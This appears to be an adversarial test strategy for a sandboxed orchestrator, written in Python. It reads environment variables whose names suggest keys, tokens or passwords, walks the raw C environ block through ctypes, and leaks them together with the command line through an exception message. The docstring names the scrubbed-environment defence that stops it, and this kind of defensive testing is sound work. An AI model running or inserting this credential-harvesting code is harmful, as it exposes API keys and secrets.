"""Leak the environment: ``os.environ``, the raw ``environ`` block, ``sys.argv``.

Attack (own, plain twin of the format-string files): the orchestrator was started with API
keys in its environment; the strategy prints every variable whose name or value looks secret
(first, so the 300-character cap does not cut them), then the raw C ``environ`` strings and
the command line of its process.
Stopped by: the clean worker is a new interpreter started with a scrubbed, allow-listed
environment (``_confine.scrubbed_env``), so its children never had the secrets.
"""

import ctypes
import os
import sys

PARAMETERS = {}


def generate_positions(data, **params):
    hits = [
        f"{k}={v}"
        for k, v in os.environ.items()
        if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "PASS", "AUTH"))
        or "canary" in v.lower()
    ]
    raw = []
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    i = 0
    while environ[i] is not None and i < 500:
        raw.append(environ[i].decode(errors="replace"))
        i += 1
    secrets_raw = [e for e in raw if "canary" in e.lower() or "KEY" in e or "TOKEN" in e]
    raise RuntimeError(
        f"secrets: {hits} {secrets_raw} | names: {sorted(os.environ)} | argv: {sys.argv}"
    )
